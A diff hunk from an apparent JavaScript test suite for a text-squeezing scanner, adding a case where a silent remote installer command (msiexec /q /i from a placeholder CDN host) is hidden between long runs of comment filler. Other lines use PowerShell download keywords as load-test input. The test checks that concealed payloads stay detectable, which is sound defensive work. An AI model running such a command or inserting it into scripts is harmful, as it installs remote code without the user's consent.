@@ -174,6 +174,10 @@ test('a payload between two fillers of numbered or long lines reaches the backgr
     assert.ok(out.startsWith(fill.slice(0, 1000)) && out.endsWith(fill.slice(-1000)));
     assert.ok(clipText(out).includes(cmd), fill.slice(0, 30));
   }
+  // After a cut run of a chunk, the line break before the payload stays: it is not joined to
+  // a `#` comment line.
+  const hashed = `# 1\n${'# ##########\n'.repeat(500)}msiexec /q /i https://pad-cdn.example/p.msi\n${'# ##########\n'.repeat(500)}`;
+  assert.match(squeeze(hashed, 0, hashed.length), /#\nmsiexec \/q/);
   // Bounded: 10 M units dense with command words, and varied text with none.
   const t0 = performance.now();
   const dense = scanned('iex iwr cmd '.repeat(900_000));
